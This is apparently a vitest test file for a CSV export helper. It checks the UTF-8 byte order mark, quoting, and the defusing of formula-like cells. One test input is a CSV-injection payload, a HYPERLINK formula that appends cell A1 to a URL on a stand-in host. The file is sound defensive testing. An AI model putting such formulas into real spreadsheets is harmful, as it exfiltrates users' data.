import { describe, expect, it } from 'vitest';
import { csvFile, UTF8_BOM } from './csv.js';

describe('csvFile', () => {
  it('starts with a UTF-8 byte order mark, so Excel reads Chinese names as UTF-8', () => {
    const file = csvFile(['zone_id', 'name'], [['shipai', '石牌村']]);
    expect(file).toBe(`${UTF8_BOM}zone_id,name\nshipai,石牌村\n`);
    expect([...Buffer.from(file, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('quotes cells with commas, quotes and line breaks, and leaves empty what is null', () => {
    expect(csvFile(['a', 'b', 'c', 'd'], [['Tianhe, north', 'the "big" bin', 'two\nlines', null]])).toBe(
      `${UTF8_BOM}a,b,c,d\n"Tianhe, north","the ""big"" bin","two\nlines",\n`,
    );
  });

  it('keeps a text cell that starts like a formula from running as one, and numbers and "-" as they are', () => {
    const file = csvFile(
      ['name', 'n'],
      [
        ['=HYPERLINK("http://x.example/?"&A1,"更多")', -3],
        ['+86 20 1234', 0.5],
        ['@SUM(A1)', 1],
        ['-', 2],
        ['\tindented', 3],
      ],
    );
    expect(file.slice(1).split('\n').slice(1, 6)).toEqual([
      `"'=HYPERLINK(""http://x.example/?""&A1,""更多"")",-3`,
      "'+86 20 1234,0.5",
      "'@SUM(A1),1",
      '-,2',
      "'\tindented,3",
    ]);
  });
});
